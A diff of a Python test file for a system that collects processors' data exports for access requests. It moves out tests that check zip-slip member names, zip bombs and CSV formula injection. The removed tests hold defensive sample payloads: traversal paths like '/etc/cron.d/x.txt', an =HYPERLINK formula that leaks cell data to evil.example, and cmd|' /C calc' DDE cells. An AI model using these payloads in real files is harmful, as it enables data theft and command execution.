@@ -2,12 +2,12 @@
 (connector manual_email) is asked for its export, the response waits for it, the provider uploads
 its files on the signed link's page (checked by content, size-limited, stored encrypted), and the
 package holds them; a provider that never sends its export is resolved by staff and the letter
-names it as missing."""
+names it as missing. What the content checks accept file by file, and how a processor's CSV is
+copied into the package, without the stack: tests/test_processor_export_files.py."""
 
 from __future__ import annotations
 
 import asyncio
-import csv
 import hashlib
 import io
 import json
@@ -34,8 +34,6 @@ _PACKAGE = re.compile(r"/portal/packages/[0-9a-f]{64}")
 MARKER = "ada-survey-answer-7f3a"  # in the uploaded file only: must never be found on disk in clear
 ANSWERS = f"question,answer\nfavourite feature,{MARKER}\n".encode()
 PROFILE = json.dumps({"respondent": "ada@example.com", "panel": "2026-Q1"}).encode()
-UNSAFE_MEMBER_NAME = ("its name must be a relative path without a leading /, a drive letter, '..', "
-                      "backslashes or control characters")
 # Small limits, so the oversize case sends 1.2 MB rather than 26.
 LIMITS = {"processor_exports": {"max_file_mb": 1, "max_total_mb": 2, "kinds": ["json", "csv", "pdf", "text", "zip"],
                                 "link_days": 30}}
@@ -311,122 +309,3 @@ def _zip(members: dict[str, bytes]) -> bytes:
         for name, data in members.items():
             archive.writestr(name, data)
     return buffer.getvalue()
-
-
-@pytest.mark.parametrize(("name", "data", "problem"), [
-    ("inner.zip", _zip({"nested.zip": _zip({"a.csv": b"x\n"})}), "nested.zip: only .json, .csv, .pdf, .txt files"),
-    ("notes.txt", "Grüße".encode("utf-16"), "notes.txt: is not plain text"),
-    ("data.json", b"not json at all", "data.json: is not JSON"),
-    ("bomb.zip", _zip({"big.csv": b"0" * (5 * 1024 * 1024)}), "bomb.zip: unpacks to more than 4 MB"),
-    ("empty.csv", b"", "empty.csv: the file is empty"),
-    ("page.txt", b"\n  <!DOCTYPE html><p>hi</p>", "page.txt: looks like HTML or other markup"),
-])
-def test_content_decides_what_is_accepted(name, data, problem):
-    """Unit-level companions of the upload test: what the page would answer 413/422 with."""
-    from api.callbacks.export_files import ContentCheck, RefusedFile, kind_for
-
-    kinds = ("json", "csv", "pdf", "text", "zip")
-    with pytest.raises(RefusedFile, match=re.escape(problem)):
-        check = ContentCheck(name, kind_for(name, kinds), 1024 * 1024, kinds)
-        check.feed(data)
-        check.finish()
-
-
-@pytest.mark.parametrize(("member", "shown"), [
-    ("../../x.csv", "../../x.csv"),
-    ("ok/../../x.csv", "ok/../../x.csv"),
-    ("/etc/cron.d/x.txt", "/etc/cron.d/x.txt"),
-    ("C:\\Windows\\x.txt", "C:\\Windows\\x.txt"),
-    ("C:x.txt", "C:x.txt"),
-    ("folder\\x.csv", "folder\\x.csv"),
-    ("a\r\nb.csv", "a??b.csv"),
-    ("report\u202egpj.txt", "report?gpj.txt"),  # the right-to-left override that disguises a name
-    ("../up/", "../up/"),  # a folder's entry
-])
-def test_a_zip_whose_member_names_leave_the_folder_it_unpacks_into_is_refused(member, shown):
-    """A processor's ZIP reaches the subject's package as it is, and the subject unpacks it: a
-    member named `../../x.csv`, `/etc/cron.d/x.txt` or `C:\\Windows\\x.txt` would land outside the
-    folder (zip slip), and control characters hide or disguise a name. The upload is refused,
-    naming the member. Before, only each member's extension was checked."""
-    from api.callbacks.export_files import ContentCheck, RefusedFile
-
-    kinds = ("json", "csv", "pdf", "text", "zip")
-    check = ContentCheck("all.zip", "zip", 1024 * 1024, kinds)
-    check.feed(_zip({"a.csv": b"x,y\n", member: b"x\n"}))
-    with pytest.raises(RefusedFile) as refused:
-        check.finish()
-    assert refused.value.message == f"all.zip: {shown}: {UNSAFE_MEMBER_NAME}"
-
-
-def test_a_zip_of_accepted_files_and_json_with_a_byte_order_mark_are_accepted():
-    from api.callbacks.export_files import ContentCheck, kind_for
-
-    kinds = ("json", "csv", "pdf", "text", "zip")
-    for name, data, media_type in [
-        ("all.zip", _zip({"a.csv": b"x,y\n1,2\n", "d/b.json": b"[1]", "c.pdf": b"%PDF-1.7\n%%EOF\n"}),
-         "application/zip"),
-        ("bom.json", "\ufeff{\"ok\": true}".encode(), "application/json"),
-    ]:
-        check = ContentCheck(name, kind_for(name, kinds), 1024 * 1024, kinds)
-        check.feed(data)
-        assert check.finish() == media_type
-
-
-def _copied(write, data: bytes, cut: int = 7) -> bytes:
-    """What the package holds of an uploaded file, its decrypted chunks cut at `cut`."""
-    out = io.BytesIO()
-    write([data[:cut], data[cut:]], out)
-    return out.getvalue()
-
-
-def test_a_processors_csv_reaches_the_package_with_its_formula_cells_neutralised():
-    """Whoever holds a processor's link could upload a CSV cell that a spreadsheet runs
-    (=HYPERLINK leaks data, =cmd|... runs programs) for the subject, or compliance, to open. Such
-    a cell gets an apostrophe, as in our own CSVs; a record without one, and a file without one,
-    stay byte for byte as sent (the summary's size and SHA-256 still match). Before, the file
-    was copied as it came."""
-    from activities.processor_csv import write_csv, write_zip
-
-    sent = (b'name;phone;amount;note\r\nAda;;-12.50;"plain, with a comma"\r\n'
-            b'Eve;+32 470 10 18 15;3;"=HYPERLINK(""https://evil.example/?""&A2,""x"")"\r\n'
-            b'Mal;;1e-5;"@SUM(1+1)\r\ncmd|\' /C calc\'!A0"\r\n')
-    copied = _copied(write_csv, sent).decode()
-    rows = list(csv.reader(io.StringIO(copied, newline=""), delimiter=";"))
-    assert rows[1] == ["Ada", "", "-12.50", "plain, with a comma"]
-    assert rows[2] == ["Eve", "'+32 470 10 18 15", "3", "'=HYPERLINK(\"https://evil.example/?\"&A2,\"x\")"]
-    assert rows[3] == ["Mal", "", "1e-5", "'@SUM(1+1)\r\ncmd|' /C calc'!A0"]
-    assert copied.startswith('name;phone;amount;note\r\nAda;;-12.50;"plain, with a comma"\r\n')  # untouched
-    assert _copied(write_csv, ANSWERS) == ANSWERS
-    latin = b"caf\xe9,=1+1\n"  # not UTF-8: its bytes pass through
-    assert _copied(write_csv, latin) == b"caf\xe9,'=1+1\n"
-
-    archive = _zip({"a.csv": b"x,y\n=1+1,2\n", "d/b.json": b'["=1+1"]'})
-    with zipfile.ZipFile(io.BytesIO(_copied(write_zip, archive))) as copy:
-        assert copy.read("a.csv") == b"x,y\n'=1+1,2\n" and copy.read("d/b.json") == b'["=1+1"]'
-
-
-def test_a_formula_is_neutralised_whichever_separator_the_spreadsheet_splits_on():
-    """Excel splits a CSV on the separator of the reader's locale (a comma, or a semicolon in
-    Belgium, the Netherlands, France, Germany), not on the one the file's first line uses. Before,
-    only cells split by the first line's separator were neutralised, so a record using another
-    one carried its formula through."""
-    from activities.processor_csv import write_csv
-
-    semicolons = b"name;email\r\nx,=cmd|' /C calc'!A0\r\n"
-    assert _copied(write_csv, semicolons) == b"name;email\r\nx,'=cmd|' /C calc'!A0\r\n"
-    commas = b'name,email\nx;=HYPERLINK("https://evil.example/?"&A1)\ny|"@SUM(1+1)",z\tz\t+1 2\n'
-    assert _copied(write_csv, commas) == (b'name,email\nx;\'=HYPERLINK("https://evil.example/?"&A1)\n'
-                                          b'y|"\'@SUM(1+1)",z\tz\t\'+1 2\n')
-    # Numbers, and a tab-separated file's empty first cell, are no formula under any separator.
-    for harmless in (b"id,amount\n7;-12.50\n8|+3\n9\t1e-5\n", b"\tid\tamount\n\t7\t-12.50\n"):
-        assert _copied(write_csv, harmless) == harmless
-
-
-def test_a_csv_with_a_cell_over_128_kib_still_reaches_the_package():
-    """A long notes column, or a quote left open: the csv module refuses a field over 128 KiB by
-    default, so the subject's package failed on every retry. Now the record goes through, and a
-    formula after it is still neutralised."""
-    from activities.processor_csv import write_csv
-
-    long = b"name,notes\r\nx," + b"a" * 200_000 + b"\r\n=y,1\r\n"
-    assert _copied(write_csv, long) == long.replace(b"\r\n=y", b"\r\n'=y")
